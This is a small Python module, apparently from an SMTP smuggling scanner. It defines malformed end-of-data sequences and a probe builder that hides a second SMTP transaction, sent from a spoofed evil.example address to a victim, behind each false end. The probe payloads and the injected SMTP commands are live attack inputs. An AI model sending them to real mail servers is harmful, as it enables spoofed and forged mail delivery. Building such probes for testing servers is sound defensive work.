"""Ends of content that are none, as published probes and lenient servers have them."""

import re
from typing import Final

FALSE_ENDS: Final = (
    b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r.\r", b"\r.\r\n", b"\r\n.\r", b"\r.\n", b"\n.\r",
    b"\r\n\0.\r\n", b"\r\n.\0\r\n", b"\n\0.\n", b"\r\n.\r\0\n", b"\r\0\n.\r\n", b"\r\n \r\n .\r\n",
    b"\r\n.\x0b\r\n", b"\r\n.\x0c\r\n", b"\x85.\x85", b"\xe2\x80\xa8.\xe2\x80\xa8",
    b"\n.\n\n", b"\r\r\n.\r", b"\r\n.\r\r", b"\r\n.\n\n", b"\n\r.\r\n",
    b"\r\n..\r\n", b"\r\n.x\r\n",
)  # fmt: skip
"""What only CRLF.CRLF may do."""

LENIENT_END: Final = re.compile(rb"(?:\r\n|\r|\n)\0?\.\0?(?:\r\n|\r|\n)")
"""Where the most lenient of servers would see the end of content."""

INSIDE: Final = (
    b"MAIL FROM:<smuggled@evil.example>\r\nRCPT TO:<victim@d.example>\r\nDATA\r\n"
    b"Subject: smuggled\r\n\r\nsmuggled\r\n"
)


def probe(false_end: bytes) -> bytes:
    """The content of a message with another one behind a false end, and the true end."""
    return b"Subject: probe\r\n\r\nbefore" + false_end + INSIDE + b".\r\n"
